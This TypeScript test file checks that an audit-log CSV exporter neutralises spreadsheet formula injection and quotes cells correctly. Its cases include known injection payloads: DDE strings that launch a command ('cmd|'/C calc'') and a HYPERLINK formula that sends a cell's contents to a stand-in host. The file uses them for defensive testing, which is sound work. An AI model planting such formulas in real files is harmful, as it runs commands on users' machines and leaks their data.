import assert from 'node:assert/strict'
import test from 'node:test'
import fc from 'fast-check'
import { withSignsTold } from '../../kernel/text/index.ts'
import { auditCsv, cellOf, cellsIn, neutralised, textIn } from './csv.ts'
import type { AuditRow } from './queries.ts'

const HEADER = 'id,occurred_at,action_id,tool,event,user_id,source,payload_hash,subject,reason'
const row = (more: Partial<AuditRow> = {}): AuditRow => ({
  id: 1,
  occurredAt: new Date('2026-11-21T09:30:00.120Z'),
  actionId: '0199d3a0-0000-7000-8000-000000000001',
  tool: 'refund_order',
  event: 'rejected',
  userId: 42,
  personId: 12,
  source: 'POST /v1/actions/:id/reject',
  payloadHash: null,
  subject: null,
  reason: null,
  ...more,
})

/** RFC 4180, as a reader does it: null for an empty cell, text for a quoted one. */
function parseCsv(text: string): (string | null)[][] {
  const records: (string | null)[][] = []
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y
  let record: (string | null)[] = []
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex
    const [, raw = '', end] =
      cell.exec(text) ?? assert.fail(`no cell at ${at}: ${JSON.stringify(text.slice(at, at + 60))}`)
    record.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw || null)
    if (end === ',') continue
    records.push(record)
    record = []
  }
  assert.equal(record.length, 0, 'the last record ends with a line end')
  return records
}

/** How the reference tells a reader to take the apostrophes away. */
const raw = (cell: string | null): string | null => cell?.replace(/^'|(?<=[;\t\r\n])'/g, '') ?? null

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−']
const startsFormula = (cell: string): boolean =>
  !/^[+-]\d+$/.test(cell) && SIGNS.includes([...cell.replace(/^["\p{Z}\p{C}]+/u, '')][0] ?? '')

test('a file has the fixed columns and nothing else', () => {
  assert.equal(auditCsv([]), `${HEADER}\r\n`)
  assert.equal(
    auditCsv([row({ reason: 'Too "dear", he said' })]),
    `${HEADER}\r\n1,2026-11-21T09:30:00.120Z,0199d3a0-0000-7000-8000-000000000001,refund_order,rejected,42,` +
      `POST /v1/actions/:id/reject,,,"Too ""dear"", he said"\r\n`,
  )
})

test('an empty text is not null', () => {
  const [, record] = parseCsv(auditCsv([row({ subject: '', reason: null })]))
  assert.deepEqual(record?.slice(8), ['', null])
})

test('no text becomes a formula', () => {
  const cases: [text: string, cell: string][] = [
    ...SIGNS.map((sign): [string, string] => [`${sign}1+1`, `'${sign}1+1`]),
    ['\t=1', "'\t'=1"],
    ['\rx', "'\rx"],
    ['\nx', "'\nx"],
    [' =1', "' =1"],
    ['\u00a0\u200b\ufeff=1', "'\u00a0\u200b\ufeff=1"],
    ['"=1', `'"=1`],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|"/C calc"!A0', `'@SUM(1+1)*cmd|"/C calc"!A0`],
    ['=HYPERLINK("https://x.example?"&A1,"here")', `'=HYPERLINK("https://x.example?"&A1,"here")`],
    ['fine;=1+1', "fine;'=1+1"],
    ['fine;"=1+1', `fine;'"=1+1`],
    ['two\r\n=1+1', "two\r\n'=1+1"],
    ["'quoted", "''quoted"],
    ['a=b', 'a=b'],
    ['a - b', 'a - b'],
    ['x; y', 'x; y'],
    ['', ''],
    // A phone number, or an id: nothing that a spreadsheet could run.
    ['+995555123456', '+995555123456'],
    ['-5', '-5'],
    ['-5.5', "'-5.5"],
    ['+1+1', "'+1+1"],
    ['+', "'+"],
    [' -5', "' -5"],
    ['-5\n', "'-5\n"],
    ['−5', "'−5"],
    ['+٥', "'+٥"],
    ['x;-5', "x;'-5"],
  ]
  for (const [text, cell] of cases) assert.equal(neutralised(text), cell, JSON.stringify(text))
})

const anyText = fc.oneof(
  fc.string({
    unit: fc.constantFrom(...SIGNS, "'", '"', ',', ';', '\t', '\r', '\n', ' ', '\u200b', 'a', '1', 'ა'),
    maxLength: 12,
  }),
  fc.string({ unit: 'binary', maxLength: 20 }),
)
const anyRow = fc
  .record({
    tool: fc.option(anyText, { nil: null }),
    source: anyText,
    subject: fc.option(anyText, { nil: null }),
    reason: fc.option(anyText, { nil: null }),
  })
  .map(row)

test('whatever an event says comes back, twice the same, with its unseen characters by their code where people wrote it', () => {
  const property = fc.property(fc.array(anyRow, { maxLength: 5 }), (events) => {
    const text = auditCsv(events)
    assert.equal(text, auditCsv(events))
    const [header, ...records] = parseCsv(text)
    assert.equal(header?.join(','), HEADER)
    const told = (text: string | null) => (text === null ? null : withSignsTold(text))
    const texts = events.map(({ tool, source, subject, reason }) => [tool, source, told(subject), told(reason)])
    assert.deepEqual(
      records.map((record) => [3, 6, 8, 9].map((column) => raw(record[column] ?? null))),
      texts,
    )
  })
  fc.assert(property, { numRuns: 500 })
})

test('what a cell says is read as it was written', () => {
  const cell = fc.oneof(anyText, fc.constant(null))
  const property = fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (values) => {
    const record = [1, ...values].map(cellOf).join()
    assert.deepEqual(cellsIn(record)?.map(textIn), ['1', ...values])
  })
  fc.assert(property, { numRuns: 1000 })
  for (const record of ['"a', '"a"b', 'a"b', '1,"a"",2']) assert.equal(cellsIn(record), undefined, record)
})

test('no spreadsheet sees a formula, at which character ever it splits', () => {
  const property = fc.property(fc.array(anyRow, { maxLength: 3 }), (events) => {
    const text = auditCsv(events)
    for (const cell of parseCsv(text).flat()) assert.ok(!startsFormula(cell ?? ''), JSON.stringify(cell))
    for (const cell of text.split(/[;\t\r\n]/)) assert.ok(!startsFormula(cell), JSON.stringify(cell))
  })
  fc.assert(property, { numRuns: 500 })
})
